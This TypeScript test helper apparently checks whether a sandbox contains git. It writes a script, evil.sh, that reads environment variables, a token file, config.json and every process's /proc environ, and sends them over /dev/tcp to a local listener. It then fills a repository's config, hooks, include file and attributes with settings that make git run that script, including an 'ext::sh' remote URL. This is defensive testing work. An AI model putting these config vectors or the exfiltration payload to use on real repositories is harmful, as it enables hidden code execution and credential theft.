import { spawn } from "node:child_process";
import { once } from "node:events";
import { appendFileSync, chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";

/**
 * What a foreign program recorded when git started it: the names it ran under, its environment, and the files it could read.
 */
export interface Loot {
  /** The names it ran under, sorted. */
  ran(): string[];
  /** Everything it recorded. */
  seen(): string;
  /** Whether it could write to its own folder. */
  wrote(): boolean;
  /** A command line that starts it under a name. */
  by(name: string): string;
}

/** Receives the programs' reports outside the sandbox, because inside it they may not be allowed to write any file. */
const FENCE = `
const { appendFileSync } = require("node:fs");
const server = require("node:net").createServer((socket) => {
  const told = [];
  socket.on("data", (chunk) => told.push(chunk));
  socket.on("error", () => undefined);
  socket.on("close", () => appendFileSync(process.argv[1], Buffer.concat(told)));
});
server.listen(0, "127.0.0.1", () => console.log(server.address().port));
`;

export async function layLoot(folder: string, dataFolder: string, onEnd: (end: () => void) => void): Promise<Loot> {
  mkdirSync(folder, { recursive: true });
  const program = join(folder, "evil.sh");
  const told = join(folder, "told");
  const fence = spawn(process.execPath, ["-e", FENCE, told], { stdio: ["ignore", "pipe", "inherit"] });
  onEnd(() => void fence.kill());
  const [port] = (await once(fence.stdout, "data")) as [Buffer];
  const look = [
    `echo "ran:$1"; env; cat ${dataFolder}/token ${dataFolder}/config.json; cat /proc/[0-9]*/environ | tr '\\0' '\\n'`,
    `(echo x > ${folder}/written) 2>/dev/null`,
    // As a filter it passes its input through; as a merge driver it keeps our version; as anything else it prints nothing.
    'case "$1" in filter*) cat;; esac',
  ];
  writeFileSync(
    program,
    `#!/bin/bash\n{ ${look[0]}; } 2>/dev/null >/dev/tcp/127.0.0.1/${String(port).trim()}\n${look.slice(1).join("\n")}\nexit 0\n`,
  );
  chmodSync(program, 0o755);
  const seen = () => (existsSync(told) ? readFileSync(told, "utf8") : "");
  return {
    ran: () => [...new Set(Array.from(seen().matchAll(/^ran:(.*)$/gm), ([, name = ""]) => name))].sort(),
    seen,
    wrote: () => existsSync(join(folder, "written")),
    by: (name) => `${program} ${name}`,
  };
}

/**
 * Settings that make git start a program, each under a name of its own. Options can override all such settings but filters and
 * merge drivers.
 */
const STARTERS: Readonly<Record<string, (by: string) => string>> = {
  "core.fsmonitor": (by) => by,
  "core.sshCommand": (by) => by,
  "core.pager": (by) => by,
  "core.editor": (by) => by,
  "core.askPass": (by) => by,
  "core.gitProxy": (by) => by,
  "core.alternateRefsCommand": (by) => by,
  "pager.diff": (by) => by,
  "credential.helper": (by) => `!${by}`,
  "diff.external": (by) => by,
  "diff.theirs.command": (by) => by,
  "diff.theirs.textconv": (by) => by,
  "gpg.program": (by) => by,
  "uploadpack.packObjectsHook": (by) => by,
  "alias.ls-files": (by) => `!${by}`,
  "alias.status": (by) => `!${by}`,
  "sequence.editor": (by) => by,
  "remote.origin.uploadpack": (by) => by,
};

/** Appends all of these settings to a config file. The name of each program says which file and setting started it. */
export function poison(file: string, from: string, loot: Loot, more: Record<string, string> = {}): void {
  const starters = Object.entries(STARTERS).map(([name, spell]) => [name, spell(loot.by(`${from}:${name}`))]);
  const switches = {
    "commit.gpgSign": "true",
    "tag.gpgSign": "true",
    "merge.verifySignatures": "true",
    "log.showSignature": "true",
  };
  const settings: Record<string, string> = { ...Object.fromEntries(starters), ...switches, ...more };
  appendFileSync(file, Object.entries(settings).map(setting).join(""));
}

/**
 * Formats one setting as git would. Starting git forty times instead would block the test until it missed that its connection
 * was closed.
 */
function setting([name, value]: [string, string]): string {
  const [section, key] = [name.slice(0, name.indexOf(".")), name.slice(name.lastIndexOf(".") + 1)];
  const within = name.slice(section.length + 1, -key.length - 1);
  return `[${section}${within && ` "${within}"`}]\n\t${key} = "${value.replace(/["\\]/g, "\\$&")}"\n`;
}

/** Writes a folder of hooks that git would run. */
export function layHooks(folder: string, from: string, loot: Loot): string {
  mkdirSync(folder, { recursive: true });
  const names = [
    "pre-commit",
    "post-commit",
    "post-checkout",
    "post-index-change",
    "reference-transaction",
    "post-merge",
    "pre-merge-commit",
  ];
  for (const name of names) {
    writeFileSync(join(folder, name), `#!/bin/sh\n${loot.by(`${from}:hook-${name}`)}\n`);
    chmodSync(join(folder, name), 0o755);
  }
  return folder;
}

/** Makes a repository hostile in every way its own files allow: settings, an included config file, hooks, attributes. */
export function makeHostile(project: string, loot: Loot): void {
  const own = join(project, ".git");
  layHooks(join(own, "hooks"), "repository", loot);
  const included = join(own, "more-settings");
  poison(included, "included", loot, {});
  poison(join(own, "config"), "repository", loot, {
    "include.path": included,
    "remote.origin.url": "ext::sh -c evil",
    "remote.origin.promisor": "true",
    "filter.theirs.clean": loot.by("filter-clean"),
    "filter.theirs.smudge": loot.by("filter-smudge"),
    "merge.theirs.driver": `${loot.by("merge-driver")} %A`,
  });
  mkdirSync(join(own, "info"), { recursive: true });
  writeFileSync(join(own, "info", "attributes"), "*.txt filter=theirs diff=theirs merge=theirs\n");
}
